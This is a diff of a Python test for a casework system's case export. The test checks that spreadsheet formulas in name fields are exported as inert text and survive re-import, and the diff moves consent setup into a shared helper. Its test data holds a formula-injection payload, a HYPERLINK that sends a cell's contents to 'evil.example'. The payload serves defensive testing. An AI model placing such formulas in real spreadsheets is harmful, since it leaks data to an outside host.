@@ -3,14 +3,14 @@ was typed when the file is imported again."""
 
 from __future__ import annotations
 
-import datetime
 from typing import Any
 
-from casework.cases.models import Case, Consent, ConsentRecipient
+from casework.cases.models import Case
 from casework.interchange import container
 from casework.interchange.example import load_example
 from casework.interchange.exporter import export_cases
 from casework.interchange.importer import import_cases
+from casework.interchange.tests.conftest import consent_to_export
 from casework.people.models import Person
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
@@ -22,14 +22,7 @@ def test_exported_formulas_are_text_and_round_trip(paul: Any) -> None:
     person = Person.objects.get(reference="P1100001")
     person.given_name, person.family_name = FORMULA, COMMAND
     person.save(update_fields=["given_name", "family_name"])  # encrypted for its agency
-    Consent.objects.update(given_on=datetime.date(2024, 1, 1))
-    for consent in Consent.objects.all():
-        ConsentRecipient.objects.create(
-            consent=consent,
-            organisation_name="Cluster Lead",
-            purpose="export",
-            information=["identity", "case_summary"],
-        )
+    consent_to_export()
     export = export_cases(
         by=paul, with_names=True, recipient_name="Cluster Lead", password="a long pass phrase"
     )
